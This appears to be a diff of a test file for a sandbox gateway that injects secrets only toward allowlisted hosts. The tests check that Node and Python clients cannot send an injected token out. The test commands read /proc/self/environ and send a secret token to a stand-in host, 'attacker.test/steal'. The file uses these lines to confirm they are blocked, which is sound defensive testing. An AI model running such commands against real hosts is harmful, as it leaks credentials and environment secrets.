@@ -123,7 +123,7 @@ beforeAll(async () => {
     'sandbox: { mode: required, network: { mode: allowlist, allow: [allowed.test, git.test] } }',
     'secrets:',
     '  bind:',
-    '    - { ref: "secret:gh", hosts: [allowed.test, git.test], delivery: inject }',
+    '    - { ref: "secret:gh", hosts: [allowed.test, git.test], delivery: inject, query: [t] }',
   ].join('\n'));
   gateway = createGateway({
     home: join(dir, 'home'), env: baseEnv(), cwd: dir, policyFile: policy,
@@ -176,21 +176,21 @@ maybe('real clients in gateway runs (allowlist, injected secret)', () => {
   });
 
   test('Node fetch: a plain `node -e` goes through the proxy (no proxy code in the script)', async () => {
-    const fetchTo = (url: string): string => `fetch(${JSON.stringify(url)}, { method: "POST", headers: { authorization: "Bearer " + process.env.T }, body: "token=" + process.env.T }).then((r) => r.text()).then((t) => console.log(t), (e) => console.log("failed:", e.cause ? e.cause.code || e.cause.message : e.message))`;
+    const fetchTo = (url: string): string => `fetch(${JSON.stringify(url)}, { method: "POST", headers: { authorization: "Bearer " + process.env.T }, body: "hello" }).then((r) => r.text()).then((t) => console.log(t), (e) => console.log("failed:", e.cause ? e.cause.code || e.cause.message : e.message))`;
     const result = await gateway.exec({
       command: `cat /proc/self/environ > node.env; export T=<<secret:gh>>; node -e '${fetchTo('https://allowed.test/node')}'; node -e '${fetchTo('https://attacker.test/steal')}'`,
       cwd: dir,
     });
     sentinelIn('node.env');
     expect(result.exitCode).toBe(0);
-    expect(allowed.seen.map((s) => [s.url, s.headers.authorization, s.body])).toEqual([['/node', `Bearer ${VALUE}`, `token=${VALUE}`]]);
-    expect(result.stdout).toContain('token=[REDACTED:secret:gh]');
+    expect(allowed.seen.map((s) => [s.url, s.headers.authorization, s.body])).toEqual([['/node', `Bearer ${VALUE}`, 'hello']]);
+    expect(result.stdout).toContain('Bearer [REDACTED:secret:gh]');
     expect(result.stdout).toContain('failed:');
     expect(result.stdout).not.toContain(VALUE);
     expect(attacker.connections).toBe(0);
   });
 
-  test('Python urllib (token in the URL; a gzip-encoded echo)', async () => {
+  test('Python urllib (token in the query parameter the binding names; a gzip-encoded echo)', async () => {
     const get = (url: string): string => `import gzip, os, sys, urllib.request\ntry:\n  r = urllib.request.urlopen(${JSON.stringify(url)} + os.environ["T"], timeout=20).read()\n  print(gzip.decompress(r).decode() if r[:2] == b"\\x1f\\x8b" else r.decode())\nexcept Exception as e:\n  print("failed:", e)`;
     const result = await gateway.exec({
       command: `cat /proc/self/environ > py.env; export T=<<secret:gh>>; python3 -c '${get('https://allowed.test/py/gzip?t=')}'; python3 -c '${get('https://attacker.test/steal?t=')}'`,
